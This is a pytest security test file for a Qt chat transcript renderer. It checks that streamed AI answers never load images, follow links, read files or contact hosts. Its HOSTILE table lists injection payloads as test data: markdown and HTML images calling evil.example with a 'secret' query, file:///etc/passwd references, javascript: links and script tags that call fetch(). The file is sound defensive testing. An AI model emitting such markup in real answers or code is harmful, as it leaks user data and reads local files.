"""Security 1: a rendered answer fetches, reads and starts nothing, in any state of its growth."""

from __future__ import annotations

import dataclasses
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage, QTextDocument, QTextFormat
from PySide6.QtWidgets import QApplication

from octavo.session.state import MessageState, Problem
from octavo.ui.chat.chips import tooltip
from octavo.ui.chat.links import inspect
from octavo.ui.chat.places import places
from octavo.ui.chat.sealed import SealedDocument
from octavo.ui.chat.targets import LinkTarget
from octavo.ui.chat.transcript import Transcript
from support.chat import answer, citation, question
from support.chat_view import WatchedTranscript, blocks
from support.outside import Outside

HOSTILE = {
    "markdown image": "Look ![chart](http://evil.example/a.png?q=secret) here.",
    "image in a link": "[![x](http://evil.example/a.png)](javascript:alert(1))",
    "reference image": "![chart][r]\n\n[r]: http://evil.example/a.png 'title'",
    "reference link": "[chart][r] and [r]\n\n[r]: file:///etc/passwd",
    "html image": "<img src='http://evil.example/a.png' onerror='x()'>",
    "html block": "<div>\n<img src=file:///etc/passwd>\n</div>\n\n<p style='x'>text</p>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/'/></svg>",
    "iframe": "<iframe src='http://evil.example/'></iframe>",
    "object": "<object data='file:///etc/passwd'></object><embed src='qrc:/x'>",
    "style": "<style>@import url('http://evil.example/a.css'); p {background: url(x)}</style>",
    "inline style": "<p style=\"background-image: url('http://evil.example/a.png')\">a</p>",
    "script": "<script src='http://evil.example/a.js'>fetch('http://evil.example')</script>",
    "link": "<link rel='stylesheet' href='http://evil.example/a.css'>",
    "form": "<form action='http://evil.example/'><input type=submit></form>",
    "base and meta": "<base href='http://evil.example/'><meta http-equiv=refresh content=0>",
    "data svg": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) <img src='data:image/svg+xml,x'>",
    "data png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "file": "![x](file:///etc/passwd) [y](file:///etc/passwd) <file:///etc/passwd>",
    "share": "![x](\\\\host\\share\\a.png) [y](\\\\host\\share) ![z](//host/share/a.png)",
    "qrc": "![x](qrc:/icons/a.svg) ![y](:/icons/a.svg) [z](qrc:/a)",
    "relative": "![x](../../etc/passwd) [y](../x) [z](#anchor)",
    "schemes": "[a](javascript:x) [b](vbscript:x) [c](ms-settings:x) <steam://run/1> [d](ftp://x)",
    "entities": "![x](&#104;ttp://evil.example/) [y](java&#115;cript:x) &lt;img src=x&gt;",
    "table": "| ![x](http://evil.example/a) | <img src='b'> |\n|---|---|\n| ![y](qrc:/c) | <b> |",
    "heading and list": "# ![x](http://evil.example/a)\n\n- ![y](file:///b)\n\n> <img src='c'>",
    "code": "```html\n<img src='http://evil.example/a.png'>\n```\n\n    <img src='b'>",
    "qt": "\ufffc<img src='a'>\ufdd0\u2029<table background='http://evil.example/x'><tr><td>b",
    "good link": "[a page](https://example.com/a?b=c) <mailto:a@b.example>",
}
OBJECT = "\ufffc"
EVIL = "evil.example"
SECRET = "/etc/passwd"


class Listener:
    """Somebody on this computer who waits to be called, and a file that waits to be read."""

    def __init__(self, bait: Path) -> None:
        self._bait = bait
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.setblocking(False)
        self.host = f"127.0.0.1:{self._socket.getsockname()[1]}"

    def text(self, text: str) -> str:
        """Let a text point here and at the bait."""
        return text.replace(EVIL, self.host).replace(SECRET, self._bait.as_posix())

    def assert_not_called(self) -> None:
        QApplication.processEvents()
        with pytest.raises(BlockingIOError):
            self._socket.accept()

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    made = Outside(tmp_path)
    yield made
    made.close()


@pytest.fixture
def listener(outside: Outside, transcript: WatchedTranscript) -> Iterator[Listener]:
    """Whatever is done while it is there, no file is read, no process started, nobody called."""
    made = Listener(outside.bait)
    with outside:
        yield made
    made.close()
    assert outside.touched == []


def assert_harmless(transcript: WatchedTranscript) -> None:
    document = transcript.document()
    for block in blocks(document):
        iterator = block.begin()
        while not iterator.atEnd():
            look = iterator.fragment().charFormat()
            assert not look.isImageFormat()
            assert not look.isAnchor()
            assert not look.anchorHref()
            if OBJECT in iterator.fragment().text():
                assert look.objectType() > int(QTextFormat.ObjectTypes.UserObject)
            iterator += 1
    for place in places(document):
        target = transcript._thread.targets.get(place.key)
        if isinstance(target, LinkTarget):
            link = inspect(target.href)
            assert link is not None
            assert link.url.startswith(("http://", "https://", "mailto:"))
    assert document.metaInformation(QTextDocument.MetaInformation.DocumentUrl) == ""
    assert transcript.asked == []


def prefixes(text: str) -> Iterator[str]:
    return (text[:length] for length in range(1, len(text) + 1))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_growing_answer_asks_for_nothing(
    transcript: WatchedTranscript, listener: Listener, text: str
) -> None:
    """Security 1, every partial streamed state: each character is flushed on its own."""
    text = listener.text(text)
    transcript.show_messages([answer("a1", "", state=MessageState.STREAMING)])
    for character in text:
        transcript.grow_message("a1", character, ())
        transcript.flush()
        assert_harmless(transcript)
    transcript.viewport().grab()
    transcript.change_message(answer("a1", text))
    transcript.viewport().grab()
    assert_harmless(transcript)
    listener.assert_not_called()


def test_every_prefix_as_an_answer_of_its_own_asks_for_nothing(
    transcript: WatchedTranscript, listener: Listener
) -> None:
    """Security 1: a stream may break off anywhere, and be shown so after a restart."""
    text = listener.text("\n\n".join(HOSTILE.values()))
    for number, prefix in enumerate(prefixes(text)):
        if number % 7 == 0:
            transcript.change_message(answer("a1", prefix))
            transcript.show_messages([answer("a1", prefix, state=MessageState.STOPPED)])
            assert_harmless(transcript)
    listener.assert_not_called()


@pytest.mark.parametrize("kind", ["quotes", "not_covered", None])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_passages_names_and_problems_ask_for_nothing(
    transcript: WatchedTranscript, listener: Listener, text: str, kind: str | None
) -> None:
    """Security 1: questions, quotes, file names, labels and quotes in tooltips."""
    text = listener.text(text)
    body = f"{text} 【1】"
    cited = dataclasses.replace(
        citation(body, "【1】", filename=text), label=text, quote=text, verified=False
    )
    failed = answer(
        "a2", text, state=MessageState.FAILED, problem=Problem(text, text, text), kind="quotes"
    )
    shown = answer("a1", body, kind=kind, citations=(cited,))  # type: ignore[arg-type]
    transcript.show_messages([question("u1", text), shown, failed])
    QApplication.processEvents()
    transcript.viewport().grab()
    assert_harmless(transcript)
    explained = QTextDocument()
    explained.setHtml(tooltip(cited))
    for block in blocks(explained):
        iterator = block.begin()
        while not iterator.atEnd():
            assert not iterator.fragment().charFormat().isImageFormat()
            iterator += 1
    listener.assert_not_called()


@pytest.mark.parametrize(
    "name",
    ["http://evil.example/a.png", "file:///etc/passwd", "qrc:/a", ":/a", "data:image/png,x", "/a"],
)
def test_the_document_gets_nothing_whatever_it_asks_for(listener: Listener, name: str) -> None:
    """Security 1: the last line of defence."""
    name = listener.text(name)
    transcript = Transcript()
    assert isinstance(transcript.document(), SealedDocument)
    for kind in QTextDocument.ResourceType:
        assert transcript.document().resource(int(kind.value), QUrl(name)) is None
        assert transcript.loadResource(int(kind.value), QUrl(name)) is None
    transcript.setSource(QUrl(name))
    assert transcript.source().isEmpty()
    listener.assert_not_called()


@pytest.mark.parametrize(
    ("touch", "event"),
    [
        (lambda bait, _: bait.read_bytes(), "open"),
        (lambda bait, _: list(bait.parent.iterdir()), "os.listdir"),
        (lambda *_: subprocess.run([sys.executable, "-c", ""], check=True), "subprocess.Popen"),
        (lambda _, address: socket.create_connection(address).close(), "socket.connect"),
        pytest.param(
            lambda bait, _: QImage(str(bait)),
            "bait",
            marks=pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells"),
        ),
    ],
)
def test_the_watch_would_see_it(
    outside: Outside, touch: Callable[[Path, tuple[str, int]], object], event: str
) -> None:
    """Security 1: what is asserted here of every hostile text can fail."""
    with socket.create_server(("127.0.0.1", 0)) as server, outside:
        touch(outside.bait, server.getsockname())
    assert event in {name for name, _ in outside.touched}
